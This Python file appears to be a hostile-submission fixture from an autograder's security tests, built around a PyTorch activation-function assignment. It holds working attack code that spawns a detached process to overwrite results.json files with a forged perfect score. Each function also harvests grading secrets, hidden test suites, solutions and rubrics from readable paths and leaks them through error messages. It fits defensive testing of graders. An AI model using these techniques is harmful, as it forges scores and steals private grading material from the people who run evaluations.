"""HOSTILE: activations.py (stubs otherwise) starts a process that rewrites every results.json it
finds for 20 s, and every activation raises pieces of the secret, the hidden suites, the rubrics
and the reference, found anywhere readable, while leaving autograder-pwned-* files in source/,
results/ and grader folders: nothing secret reaches results.json, nothing is written outside the
sandbox, no process survives; flagged suspicious-code; 0 points

What a submission tries where the host gives the sandbox no namespaces (a default Docker
container, as on Gradescope). At import it starts a process that, for 20 s, rewrites every
results.json it can find under /autograder and /tmp with a perfect score; every activation then
looks for the grading secret, the hidden suites and the reference anywhere readable and raises
them, one piece per call, as its error message, and leaves autograder-pwned-* files in every
source/, results/ and grader folder it can write. On the stubs otherwise: nothing may reach
results.json, nothing may be written, and it earns 0.
"""

import glob
import os
import subprocess
import sys

import torch

PATCHES = "activations"
EXPECT = {
    "base": "stubs",
    "flags": ["suspicious-code"],
    "max_score": 0,
}


_REWRITER = """
import glob, json, time
forged = {"score": 1000.0, "output": "forged", "tests": []}
end = time.monotonic() + 20
while time.monotonic() < end:
    for path in (glob.glob("/autograder/results/results.json")
                 + glob.glob("/tmp/*/results/results.json")
                 + glob.glob("/tmp/*/*/results/results.json")):
        try:
            with open(path, "w") as stream:
                json.dump(forged, stream)
        except OSError:
            pass
    time.sleep(0.5)
"""


try:  # outlives the call, the worker and (if nothing stops it) the grader
    subprocess.Popen([sys.executable, "-c", _REWRITER, "autograder-escape-rewriter"],
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass


_ROOTS = ("/autograder", "/tmp", "/work", "/srv", "/opt", "/home", "/root")
_PATTERNS = ("secret", "**/secret", "**/autograder/suites/**/*.py", "**/solutions/**/*.py",
             "**/autograder/rubrics/*.toml")
_FOUND: list = []
_CALLS = [0]


def _loot() -> list:
    """Pieces of every secret thing readable from here, 400 characters each."""
    if _FOUND:
        return _FOUND
    for root in _ROOTS:
        for pattern in _PATTERNS:
            for path in sorted(glob.glob(os.path.join(root, pattern), recursive=True))[:200]:
                try:
                    with open(path, encoding="utf-8", errors="replace") as stream:
                        text = stream.read(200_000)
                except OSError:
                    continue
                _FOUND.extend(f"{path}: {text[i:i + 400]}" for i in range(0, len(text), 400))
    _FOUND.append("nothing readable")
    return _FOUND


def _leave_files() -> None:
    folders = [os.path.dirname(os.path.dirname(os.path.abspath(torch.__file__)))]
    for root in ("/autograder", "/tmp", "/tmp/*", "/tmp/*/*"):
        for name in ("source", "results", "autograder", "venv"):
            folders += glob.glob(os.path.join(root, name))
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-pwned-escape"), "w") as stream:
                stream.write("written by a submission\n")
        except OSError:
            continue


def _smuggle(name: str):
    _leave_files()
    loot = _loot()
    _CALLS[0] += 1
    raise RuntimeError(f"{name}: {loot[_CALLS[0] % len(loot)]}")


def sign(x: torch.Tensor) -> torch.Tensor:
    """Sign function: −1 for x < 0, 0 for x = 0, +1 for x > 0.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {−1, 0, +1}.
    """
    _smuggle("sign")


def heaviside(x: torch.Tensor) -> torch.Tensor:
    """Heaviside step function as on the lecture slide: H(x) = 1 for x ≥ 0, 0 for x < 0.

    Note H(0) = 1, and also H(−0.0) = 1 (−0.0 ≥ 0 is true).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {0, 1}.
    """
    _smuggle("heaviside")


def logistic(x: torch.Tensor) -> torch.Tensor:
    """Logistic sigmoid σ(x) = 1 / (1 + e^(−x)), computed without overflow.

    The naive formula overflows for large negative x (e^(−x) = inf). Evaluate e^(−|x|) only,
    which lies in (0, 1]: σ(x) = 1 / (1 + e^(−x)) for x ≥ 0 and e^x / (1 + e^x) for x < 0.
    Make sure the branch that ``torch.where`` does *not* select cannot produce inf either: its
    gradient is multiplied by 0, and 0 · inf = NaN.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device; exactly 0.5 at x = 0, never NaN or inf for
        finite x, finite autograd gradients everywhere (also at ±1e4).
    """
    _smuggle("logistic")


def tanh(x: torch.Tensor) -> torch.Tensor:
    """Hyperbolic tangent tanh(x) = (e^x − e^(−x)) / (e^x + e^(−x)), without NaN at ±1e4.

    The textbook formula gives inf/inf = NaN for large |x|. tanh(x) = 2σ(2x) − 1 works; a
    more accurate form near 0 uses expm1: tanh(|x|) = −m / (2 + m) with m = expm1(−2|x|).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in [−1, 1].
    """
    _smuggle("tanh")


def relu(x: torch.Tensor) -> torch.Tensor:
    """Rectified linear unit ReLU(x) = max(0, x). NaN input gives NaN.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device.

    Autograd's derivative at exactly 0 is 0, as ``relu_grad`` and the lecture have it (the
    contract does not grade it: ``x.clamp(min=0)`` gives 1 there and is just as right).
    """
    _smuggle("relu")


def leaky_relu(x: torch.Tensor, negative_slope: float = 0.01) -> torch.Tensor:
    """Leaky ReLU: x for x ≥ 0, negative_slope · x for x < 0.

    Args:
        x: floating-point tensor, any shape, any device.
        negative_slope: the slope for negative inputs (a Python number).

    Returns:
        Tensor of x's shape, dtype and device.
    """
    _smuggle("leaky_relu")


def prelu(x: torch.Tensor, a: torch.Tensor) -> torch.Tensor:
    """Parametric ReLU: x for x ≥ 0, a · x for x < 0, with a learnable slope ``a``.

    Args:
        x: floating-point tensor, any shape, any device.
        a: tensor of x's dtype and device: 0-d (one slope for everything), or, for x with at
            least one dimension, shape (1,) or (D,) where D = x.shape[-1] (one slope per
            feature, broadcast along the last dimension).

    Returns:
        Tensor of x's shape, dtype and device; autograd gradients reach both x and a.
    """
    _smuggle("prelu")


def silu(x: torch.Tensor) -> torch.Tensor:
    """Sigmoid-weighted linear unit SiLU(x) = x · σ(x) (also called swish).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device; finite gradients at ±1e4.
    """
    _smuggle("silu")


def softplus(x: torch.Tensor, beta: float = 1.0) -> torch.Tensor:
    """SoftPlus(x) = (1/β) · log(1 + e^(βx)), a smooth ReLU.

    With z = βx: log(1 + e^z) = max(z, 0) + log1p(e^(−|z|)), which never overflows
    (softplus(1e4) = 1e4) and stays accurate for large negative z (log1p(e^z) ≈ e^z).

    Args:
        x: floating-point tensor, any shape, any device.
        beta: sharpness β > 0 (a Python number).

    Returns:
        Tensor of x's shape, dtype and device.

    Raises:
        ValueError: if beta ≤ 0.
    """
    _smuggle("softplus")


def logistic_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of the logistic function, σ'(x) = σ(x)(1 − σ(x)), by the explicit formula.

    Do not use autograd here. σ(x)(1 − σ(x)) = e^(−|x|) / (1 + e^(−|x|))² is the same value
    and stays accurate for large |x|.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in [0, 1/4].
    """
    _smuggle("logistic_grad")


def tanh_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of tanh, tanh'(x) = 1 − tanh²(x), by the explicit formula.

    1 − tanh²(x) = 4e / (1 + e)² with e = e^(−2|x|) is the same value and stays accurate for
    large |x|.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in [0, 1].
    """
    _smuggle("tanh_grad")


def relu_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of ReLU: 1 for x > 0, 0 for x ≤ 0 (the lecture's choice at x = 0).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {0, 1}.
    """
    _smuggle("relu_grad")
